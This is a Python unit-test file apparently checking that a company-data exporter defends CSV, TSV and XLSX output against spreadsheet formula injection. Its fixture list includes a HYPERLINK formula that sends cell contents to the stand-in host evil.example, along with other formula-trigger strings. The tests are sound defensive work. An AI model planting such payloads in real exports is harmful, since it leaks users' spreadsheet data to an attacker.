"""Companies written to CSV/TSV/XLSX: a text that a spreadsheet would evaluate is written as text."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from openpyxl import load_workbook

from kakehashi.adapters.exports.companies import write_companies_file
from kakehashi.adapters.importers.cells import clean_text
from kakehashi.domain.organizations import CompanyRecord

pytestmark = pytest.mark.unit

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Nova")', "+1", "@SUM(1)", "-2+3", "\tTab", "\rReturn"]


def _records() -> list[CompanyRecord]:
    return [
        CompanyRecord(name=f"Startup {i}", name_en=text, city="-Haifa", total_funding_usd=-5 if i == 0 else 7)
        for i, text in enumerate(HOSTILE)
    ]


@pytest.mark.parametrize("suffix", [".csv", ".tsv"])
def test_companies_csv_prefixes_texts_that_read_as_formulas_with_a_quote(tmp_path: Path, suffix: str) -> None:
    path = tmp_path / f"companies{suffix}"

    write_companies_file(path, _records())

    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle, delimiter="\t" if suffix == ".tsv" else ","))
    assert [row["name_en"] for row in rows] == ["'" + text for text in HOSTILE]
    assert {row["city"] for row in rows} == {"'-Haifa"}
    assert [row["name"] for row in rows] == [f"Startup {i}" for i in range(len(HOSTILE))]
    assert [row["total_funding_usd"] for row in rows][:2] == ["-5", "7"]  # a number is not text


def test_companies_csv_quoted_texts_import_back_as_they_were(tmp_path: Path) -> None:
    path = tmp_path / "companies.csv"
    write_companies_file(path, _records())

    with path.open(encoding="utf-8-sig", newline="") as handle:
        names = [clean_text(row["name_en"]) for row in csv.DictReader(handle)]

    assert names == [text.strip() for text in HOSTILE]


def test_companies_xlsx_writes_texts_that_read_as_formulas_as_quoted_text(tmp_path: Path) -> None:
    path = tmp_path / "companies.xlsx"

    write_companies_file(path, _records())

    sheet = load_workbook(path)["companies"]
    header = [c.value for c in sheet[1]]
    column = header.index("name_en") + 1
    cells = [sheet.cell(row=r, column=column) for r in range(2, sheet.max_row + 1)]
    funding = sheet.cell(row=2, column=header.index("total_funding_usd") + 1)
    assert [c.value for c in cells] == [text.replace("\r", "\n") for text in HOSTILE]  # XML reads CR as LF
    assert {(c.data_type, c.quotePrefix) for c in cells} == {("s", True)}
    assert (funding.value, funding.data_type) == (-5, "n")
